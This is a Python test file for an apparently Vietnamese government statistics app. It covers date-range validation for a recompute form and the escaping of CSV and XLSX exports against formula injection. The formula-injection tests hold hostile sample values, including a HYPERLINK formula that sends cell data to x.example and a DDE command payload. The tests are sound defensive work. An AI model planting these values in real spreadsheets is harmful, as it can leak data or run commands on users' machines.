    def test_the_button_enqueues_a_recompute_that_records_a_run(self, client, known, office_staff):
        client.force_login(office_staff)
        response = client.post(RUNS_URL, {"date_from": "2025-11-01", "date_to": "2025-11-10"})
        assert (response.status_code, response["Location"]) == (302, RUNS_URL)
        run = StatsRun.objects.order_by("-pk").first()
        assert (run.kind, run.status, run.date_from, run.date_to, run.days_computed) == (
            StatsRunKind.BACKFILL,
            StatsRunStatus.SUCCEEDED,
            D(2025, 11, 1),
            D(2025, 11, 10),
            10,
        )
        assert "01/11/2025" in client.get(RUNS_URL).content.decode()

    @pytest.mark.parametrize(
        ("data", "field"),
        [
            ({"date_from": "2025-11-10", "date_to": "2025-11-01"}, "date_to"),
            ({"date_from": "2025-11-01", "date_to": "2025-12-01"}, "date_to"),
            ({"date_from": "2025-11-31", "date_to": "2025-12-01"}, "date_from"),
            ({"date_from": "2019-11-01", "date_to": "2025-11-01"}, "date_to"),
            ({"date_to": "2025-11-01"}, "date_from"),
        ],
    )
    def test_bad_ranges_are_refused_and_nothing_is_enqueued(
        self, client, known, office_staff, data, field, django_capture_on_commit_callbacks
    ):
        client.force_login(office_staff)
        with django_capture_on_commit_callbacks(execute=True) as callbacks:
            response = client.post(RUNS_URL, data)
        assert response.status_code == 400
        assert field in response.context["recompute_form"].errors
        assert callbacks == []
        assert StatsRun.objects.count() == 1

    def test_a_refused_range_speaks_of_recomputing_not_of_a_report(self, client, known, office_staff):
        # Found by a new user: the recompute form answered "báo cáo chỉ có thể kết thúc…" (a report).
        client.force_login(office_staff)
        future = client.post(RUNS_URL, {"date_from": "2025-11-01", "date_to": "2025-12-01"})
        too_long = client.post(RUNS_URL, {"date_from": "2019-11-01", "date_to": "2025-11-01"})

        assert (
            future.context["recompute_form"]
            .errors["date_to"][0]
            .startswith("Ngày 01/12/2025 ở tương lai: số liệu thống kê chỉ tính lại được đến hôm nay")
        )
        assert too_long.context["recompute_form"].errors["date_to"] == [
            "Mỗi lần chỉ tính lại dưới 5 năm; hãy thu hẹp khoảng ngày."
        ]
        for response in (future, too_long):
            assert "báo cáo" not in str(response.context["recompute_form"].errors)


def test_the_range_task_called_directly_records_a_backfill(known):
    result = compute_stats_range("2025-11-01", "2025-11-14")
    run = StatsRun.objects.get(pk=result["run"])
    assert (run.kind, run.status, run.days_computed, result["date_from"], result["date_to"]) == (
        StatsRunKind.BACKFILL,
        StatsRunStatus.SUCCEEDED,
        14,
        "2025-11-01",
        "2025-11-14",
    )


class TestFormulaInjection:
    """Issue 14, item 5: a catalogue name that looks like a formula reaches every file as text."""

    HOSTILE = '=HYPERLINK("http://x.example/?"&A1,"Xem")'

    @pytest.fixture
    def hostile_names(self, known, unit_a):
        from procedures.models import Field, Procedure

        Procedure.objects.filter(unit=unit_a).update(name_vi=self.HOSTILE)
        Field.objects.update(name_vi="@SUM(1+1)")
        unit_a.name_vi = "+cmd|' /C calc'!A0"
        unit_a.save()

    @pytest.mark.parametrize("group_by", ["unit", "field", "procedure"])
    def test_the_csv_escapes_every_text_cell_a_spreadsheet_would_run(
        self, client, hostile_names, office_staff, group_by
    ):
        response = page(client, office_staff, **NOVEMBER, export="csv", group_by=group_by)
        lines = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        totals_line = next(number for number, line in enumerate(lines) if line[1:2] == ["Tổng cộng"])
        names = [line[1] for line in lines[11:totals_line]]
        assert names and all(not name.startswith(("=", "+", "-", "@")) for name in names)
        expected = {
            "unit": "'+cmd|' /C calc'!A0",
            "field": "'@SUM(1+1)",
            "procedure": "'" + self.HOSTILE,
        }[group_by]
        assert expected in names

    @pytest.mark.parametrize("group_by", ["unit", "field", "procedure"])
    def test_the_workbook_has_no_formula_and_shows_the_name_as_text(
        self, client, hostile_names, office_staff, group_by
    ):
        response = page(client, office_staff, **NOVEMBER, export="xlsx", group_by=group_by)
        sheet = load_workbook(io.BytesIO(response.content)).active
        cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
        assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
        hostile = {"unit": "+cmd|", "field": "@SUM(1+1)", "procedure": self.HOSTILE}[group_by]
        named = [cell for cell in cells if isinstance(cell.value, str) and hostile in cell.value]
        assert named and all(cell.data_type == "s" for cell in named)


def test_the_spreadsheet_helpers_escape_text_only():
    from openpyxl import Workbook

    from config.spreadsheets import csv_text, neutralise_workbook

    assert csv_text([["=1+1", "-2", "\tx", "\rx", "@a", "ok", -3, 4.5]]) == "'=1+1,'-2,'\tx,\"'\rx\",'@a,ok,-3,4.5\r\n"
    workbook = Workbook()
    workbook.active.append(["=1+1", "plain", -3])
    neutralise_workbook(workbook)
    first, plain, number = workbook.active[1]
    assert (first.data_type, first.value, first.quotePrefix) == ("s", "=1+1", True)
    assert (plain.quotePrefix, number.data_type, number.value) == (False, "n", -3)
